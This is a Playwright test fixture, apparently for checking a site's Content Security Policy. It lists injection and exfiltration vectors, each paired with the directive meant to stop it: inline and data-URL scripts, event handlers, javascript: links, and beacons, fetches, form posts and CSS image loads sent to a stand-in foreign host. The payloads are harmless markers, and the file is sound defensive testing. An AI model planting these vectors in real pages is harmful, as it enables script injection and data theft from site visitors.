import type { Page } from '@playwright/test';
import { foreign } from './intruder';
import { whenReady } from './ready';

export interface Intrusion {
  name: string;
  /** The directive that stops it. */
  directive: string;
  /** Markup that stands in the served page. */
  markup?: string;
  /** What happens in the page, by a visitor or by a script of the site that was led astray. */
  act?: (page: Page) => Promise<unknown>;
}

const mark = "window.ran = 'inline'";

const insert = (html: string) => (page: Page) =>
  page.evaluate((markup) => {
    const holder = document.createElement('div');
    holder.innerHTML = markup;
    document.body.append(holder);
  }, html);

const press = (selector: string) => (page: Page) => page.locator(selector).dispatchEvent('click');

/** What somebody could do who got markup or code into a page. */
export const intrusions: Intrusion[] = [
  {
    name: 'an inline script in the served page',
    directive: 'script-src-elem',
    markup: `<script>${mark}</script>`,
  },
  {
    name: 'an inline module in the served page',
    directive: 'script-src-elem',
    markup: `<script type="module">${mark}</script>`,
  },
  {
    name: 'a foreign script in the served page',
    directive: 'script-src-elem',
    markup: `<script src="${foreign}/a.js"></script>`,
  },
  {
    name: 'a script out of a data address',
    directive: 'script-src-elem',
    markup: `<script src="data:text/javascript,${encodeURIComponent(mark)}"></script>`,
  },
  {
    name: 'an event handler in the served page',
    directive: 'script-src-attr',
    markup: `<img src="/none.png" alt="" onerror="${mark}">`,
  },
  {
    name: 'an event handler in markup that a script inserts',
    directive: 'script-src-attr',
    act: insert(`<img src="/none.png" alt="" onerror="${mark}">`),
  },
  {
    name: 'a script element that a script inserts',
    directive: 'script-src-elem',
    act: (page) =>
      page.evaluate((code) => {
        const script = document.createElement('script');
        script.textContent = code;
        document.body.append(script);
      }, mark),
  },
  {
    name: 'a foreign script that a script inserts',
    directive: 'script-src-elem',
    act: (page) =>
      page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('script'), { src }));
      }, `${foreign}/a.js`),
  },
  {
    name: 'a javascript: link',
    directive: 'script-src-elem',
    markup: `<a id="lure" href="javascript:void(${mark})">free</a>`,
    act: press('#lure'),
  },
  {
    name: 'code out of a text',
    directive: 'script-src',
    act: (page) => page.evaluate((code) => void Reflect.apply(setTimeout, window, [code]), mark),
  },
  {
    name: 'a worker out of a text',
    directive: 'worker-src',
    act: (page) =>
      page.evaluate(() => {
        const code = new Blob(["postMessage('worker')"]);
        const worker = new Worker(URL.createObjectURL(code));
        worker.onmessage = ({ data }) => Object.assign(window, { ran: String(data) });
      }),
  },
  {
    name: 'a foreign picture',
    directive: 'img-src',
    markup: `<img src="${foreign}/pixel.png?text" alt="">`,
  },
  {
    name: 'a foreign style sheet',
    directive: 'style-src-elem',
    markup: `<link rel="stylesheet" href="${foreign}/a.css">`,
  },
  {
    name: 'a style that reads the page out by its pictures',
    directive: 'style-src-elem',
    markup: `<style>body { background: url(${foreign}/read.png) }</style>`,
  },
  {
    name: 'a picture in a style attribute',
    directive: 'img-src',
    markup: `<p style="background: url(${foreign}/read.png)">free</p>`,
  },
  {
    name: 'a foreign font',
    directive: 'font-src',
    act: (page) =>
      page.evaluate(
        (source) => void new FontFace('stolen', source).load().catch(() => undefined),
        `url(${foreign}/a.woff2)`,
      ),
  },
  {
    name: 'a request to a foreign host',
    directive: 'connect-src',
    act: (page) =>
      page.evaluate(
        (url) => void fetch(url, { mode: 'no-cors' }).catch(() => undefined),
        `${foreign}/text`,
      ),
  },
  {
    name: 'a beacon to a foreign host',
    directive: 'connect-src',
    act: (page) =>
      page.evaluate((url) => void navigator.sendBeacon(url, 'text'), `${foreign}/text`),
  },
  {
    name: 'a form that posts to a foreign host',
    directive: 'form-action',
    markup: `<form method="post" action="${foreign}/text"><button id="lure">free</button></form>`,
    act: press('#lure'),
  },
  {
    name: 'a button that posts the site’s own form to a foreign host',
    directive: 'form-action',
    act: async (page) => {
      await whenReady(page);
      await page.evaluate((action) => {
        const form = document.querySelector<HTMLFormElement>('footer form');
        const button = document.createElement('button');
        Object.assign(button, { id: 'lure', formAction: action, formNoValidate: true });
        form?.addEventListener('submit', (event) => event.stopImmediatePropagation(), true);
        form?.append(button);
      }, `${foreign}/text`);
      await press('#lure')(page);
    },
  },
  {
    name: 'a foreign page in a frame',
    directive: 'frame-src',
    markup: `<iframe src="${foreign}/page"></iframe>`,
  },
  {
    name: 'a foreign object',
    directive: 'object-src',
    markup: `<object data="${foreign}/page" type="text/html"></object>`,
  },
  {
    name: 'another base for the page’s addresses',
    directive: 'base-uri',
    act: async (page) => {
      await page.evaluate((href) => {
        document.head.prepend(Object.assign(document.createElement('base'), { href }));
        const image = new Image();
        image.src = 'pixel.png';
      }, `${foreign}/`);
    },
  },
];
